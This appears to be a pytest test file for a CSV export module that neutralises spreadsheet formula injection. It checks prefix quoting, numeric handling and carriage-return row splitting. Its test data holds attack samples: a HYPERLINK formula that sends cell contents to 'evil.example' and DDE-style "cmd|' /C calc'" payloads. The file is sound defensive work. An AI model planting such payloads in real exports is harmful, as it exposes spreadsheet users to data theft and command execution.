"""CSV exports cannot inject spreadsheet formulas (roc_dash.report.exports)."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from roc_dash.report.exports import FORMULA_PREFIXES, csv_safe, neutralise, to_safe_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click me")'


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_exp001_each_formula_prefix_gets_a_quote(prefix):
    value = prefix + "cmd|' /C calc'!A0"
    assert neutralise(value) == "'" + value.replace("\r", "\n")  # CR: see test_exp007


@pytest.mark.parametrize(
    "value",
    ["logistic regression", "", " =not a formula", "a=b", "'=already quoted", "model-1"],
)
def test_exp002_harmless_text_unchanged(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", ["-1", "+2", "-0.5", "+2.5e-3", "-.5", "-3E+2", "-7."])
def test_exp003_text_that_is_a_plain_number_unchanged(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", ["-1+1", "-2+3+cmd|' /C calc'!A0", "-inf", "+1e", "--1", "-1 "])
def test_exp004_number_like_formulas_still_quoted(value):
    assert neutralise(value) == "'" + value


def test_exp005_model_name_hyperlink_in_a_frame():
    frame = pd.DataFrame(
        {
            "model": [HYPERLINK, "lr", HYPERLINK, "@SUM(A1:A2)"],
            "fpr": [0.0, 0.5, 1.0, 1.0],
            "threshold": [np.inf, -0.25, -1.5, np.nan],
            "n": np.array([1, -2, 3, 4], dtype=np.int64),
            "flag": [True, False, True, False],
        }
    )
    safe = csv_safe(frame)
    assert safe["model"].tolist() == ["'" + HYPERLINK, "lr", "'" + HYPERLINK, "'@SUM(A1:A2)"]
    for column in ("fpr", "threshold", "n", "flag"):  # numeric columns are the same objects
        assert safe[column].dtype == frame[column].dtype
        pd.testing.assert_series_equal(safe[column], frame[column])
    assert frame["model"][0] == HYPERLINK  # the input is not modified

    rows = read_back(to_safe_csv(frame))
    assert rows[0] == ["model", "fpr", "threshold", "n", "flag"]
    assert rows[1] == ["'" + HYPERLINK, "0.0", "inf", "1", "True"]
    assert rows[2] == ["lr", "0.5", "-0.25", "-2", "False"]  # negative numbers stay numbers
    assert rows[3][2] == "-1.5"


def test_exp006_column_names_and_other_text_dtypes():
    frame = pd.DataFrame(
        {
            "=cmd": ["a", "b"],
            "fold": pd.Categorical(["+1+1", "f2"]),
            "id": pd.array(["-x", None], dtype="string"),
            "mixed": pd.Series([1.5, "=A1"], dtype=object),
            "when": pd.to_datetime(["2024-01-01", "2024-01-02"]),
        }
    )
    safe = csv_safe(frame)
    assert list(safe.columns) == ["'=cmd", "fold", "id", "mixed", "when"]
    assert safe["fold"].tolist() == ["'+1+1", "f2"]
    assert safe["id"][0] == "'-x" and pd.isna(safe["id"][1])
    assert safe["id"].dtype == frame["id"].dtype
    assert safe["mixed"].tolist() == [1.5, "'=A1"]
    pd.testing.assert_series_equal(safe["when"], frame["when"])


def spreadsheet_rows(text: str) -> list[str]:
    """Rows as a spreadsheet splits them: at CR, LF or CRLF outside double quotes."""
    rows, current, quoted, i = [], [], False, 0
    while i < len(text):
        c = text[i]
        if c == '"':
            quoted = not quoted
        if c in "\r\n" and not quoted:
            rows.append("".join(current))
            current = []
            i += 2 if text[i : i + 2] == "\r\n" else 1
            continue
        current.append(c)
        i += 1
    if current:
        rows.append("".join(current))
    return rows


def test_exp007_carriage_returns_cannot_start_a_new_row():
    names = ["\t=1+1", "\r=1+1", "abc\r=HYPERLINK(1)", "x\r\ny\nz", "ok"]
    frame = pd.DataFrame({"model": names, "auc": [0.5, 0.6, 0.7, 0.8, 0.9]})
    assert csv_safe(frame)["model"].tolist() == [
        "'\t=1+1", "'\n=1+1", "abc\n=HYPERLINK(1)", "x\ny\nz", "ok"
    ]
    # unsafe as it was: the lone CR is written unquoted and starts a row with a formula
    assert "=HYPERLINK(1),0.7" in spreadsheet_rows(frame.to_csv(index=False))
    for text in (to_safe_csv(frame), csv_safe(frame).to_csv(index=False, lineterminator="\r\n")):
        rows = spreadsheet_rows(text)
        assert len(rows) == 6
        assert not any(row.startswith(("=", "+", "-", "@", "\t")) for row in rows)
        assert [r[1] for r in read_back(text)[1:]] == ["0.5", "0.6", "0.7", "0.8", "0.9"]


def test_exp008_nothing_to_change_returns_equal_frame():
    frame = pd.DataFrame({"model": ["a", "b"] * 3, "auc": np.linspace(-1, 1, 6)})
    safe = csv_safe(frame)
    pd.testing.assert_frame_equal(safe, frame)
    assert to_safe_csv(frame) == frame.to_csv(index=False)
    assert to_safe_csv(frame, index=True) == frame.to_csv()


def test_exp009_many_rows_repeated_names():
    n = 200_000
    frame = pd.DataFrame({"model": np.where(np.arange(n) % 2 == 0, "=evil()", "good"),
                          "tpr": np.linspace(0, 1, n)})
    safe = csv_safe(frame)
    assert (safe["model"][::2] == "'=evil()").all() and (safe["model"][1::2] == "good").all()
